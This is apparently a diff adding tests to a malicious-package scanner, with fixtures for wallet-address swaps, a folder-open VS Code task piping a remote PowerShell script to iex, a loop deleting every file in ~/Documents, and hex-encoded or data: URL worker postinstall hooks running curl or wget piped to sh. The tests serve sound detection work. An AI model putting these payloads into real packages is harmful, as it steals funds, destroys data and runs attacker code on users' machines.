@@ -452,3 +452,127 @@ describe('base64 text in package.json for AI assistants', () => {
     expect(strong(manifest('A strict preset.'))).toEqual([]);
   });
 });
+
+describe('review of the fourteenth session', () => {
+  const HOT = "'0x7a3d9e5b41c0f28e6d13b7a9c54e2f0186bd3c47'";
+  const wallet = (body: string) =>
+    analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const HOT = ${HOT};
+exports.make = (signer) => ({
+  ${body}
+});`,
+    });
+  const swaps = (r: ReturnType<typeof analyzeSource>) =>
+    threats(r).filter((f) => f.rule === 'js.wallet-address-swap');
+  it('quiet: wrapping ETH sends the amount to the wrapper contract over the caller’s overrides', () => {
+    expect(
+      swaps(
+        wallet(
+          'wrap(amount, overrides) { return signer.sendTransaction({ ...overrides, to: HOT, value: amount }); },',
+        ),
+      ),
+    ).toEqual([]);
+    expect(
+      swaps(
+        wallet(
+          'wrap(amount, overrides) { return signer.sendTransaction(Object.assign({}, overrides, { to: HOT, value: amount })); },',
+        ),
+      ),
+    ).toEqual([]);
+  });
+  it('quiet: a burn the caller asks for with a flag', () => {
+    expect(
+      swaps(
+        wallet(
+          'send(to, amount, burn) { const dest = ((t, b) => { if (b) return HOT; return t; })(to, burn); return signer.sendTransaction({ to: dest, value: amount }); },',
+        ),
+      ),
+    ).toEqual([]);
+  });
+  it('a swap behind a guard that throws is still a swap', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const HOT = ${HOT};
+function route(chainId, to) {
+  if (!to) throw new Error('recipient required');
+  if (chainId === 1) return HOT;
+  return to;
+}
+exports.send = (signer, tx) => signer.sendTransaction({ to: route(tx.chainId, tx.to), value: tx.value });`,
+    });
+    expect(swaps(r).length).toBe(1);
+  });
+  it('`(to && HOT) || to` puts the fixed address first: a swap, not an address book', () => {
+    expect(
+      swaps(
+        wallet(
+          'send(tx) { const to = (tx.to && HOT) || tx.to; return signer.sendTransaction({ to, value: tx.value }); },',
+        ),
+      ).length,
+    ).toBe(1);
+  });
+  it('quiet: an SSH key only in a JSDoc example, the key written being the caller’s', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+/**
+ * Adds a public key. @example addKey('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB3xq9Lr7Wm2cT5vJ0pN8kYd4sZ1uHfG6aQe2oXiR7tM me@laptop')
+ */
+exports.addKey = (publicKey) => fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), publicKey + '\\n');`,
+    });
+    expect(strong(r)).toEqual([]);
+  });
+  it('quiet: a copy recipient the caller may override, with a default', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const DEFAULT_CC = 'records@mailer-co.example';
+exports.send = (opts, key) => fetch(process.env.MAIL_URL, { method: 'POST', headers: { 'x-key': key }, body: JSON.stringify({ To: opts.to, Cc: opts.cc || DEFAULT_CC, Text: opts.text }) });`,
+    });
+    expect(threats(r).filter((f) => f.rule === 'js.mail-hidden-copy')).toEqual([]);
+  });
+  it('a folder-open task whose Windows command is not the package script is still reported', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ bin: { mk: 'cli.js' } }),
+      'cli.js': `const fs = require('fs'), path = require('path');
+exports.create = (dir) => fs.writeFileSync(path.join(dir, '.vscode', 'tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [{ label: 'dev', type: 'shell', command: 'npm run dev', windows: { command: 'powershell -c iwr https://203.0.113.5/t.ps1 | iex' }, runOptions: { runOn: 'folderOpen' } }] }));`,
+    });
+    expect(threats(r).map((f) => f.rule)).toContain('js.write-agent-config');
+  });
+  it('a commented-out relink does not excuse a deletion', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+exports.tidy = () => {
+  const dir = path.join(os.homedir(), 'Documents');
+  for (const f of fs.readdirSync(dir).map((n) => path.join(dir, n))) {
+    fs.unlinkSync(f);
+    // TODO: fs.symlinkSync(backup, f)
+  }
+};`,
+    });
+    expect(threats(r).map((f) => f.rule)).toContain('js.destructive-user-data');
+  });
+  it('Node given its program as the `input` of spawnSync', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node i.js' } }),
+      'i.js': `const cp = require('child_process');
+const code = Buffer.from(${JSON.stringify(Buffer.from("require('child_process').execSync('curl -s http://198.51.100.70/x | sh')").toString('hex'))}, 'hex').toString();
+cp.spawnSync(process.execPath, ['-'], { input: code });`,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+});
+
+describe('a worker started from a data: address (round 55)', () => {
+  it('the module in the address is analysed as the code it is', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ type: 'module', scripts: { postinstall: 'node setup.js' } }),
+      'setup.js': `import { Worker as Thread } from 'node:worker_threads';
+const job = "require('child_process').execSync('wget -qO- http://203.0.113.81/w | sh')";
+new Thread(new URL('data:text/javascript,' + encodeURIComponent(job)));`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threats(r).map((f) => f.rule)).toContain('js.exec-download-pipe-shell');
+  });
+});
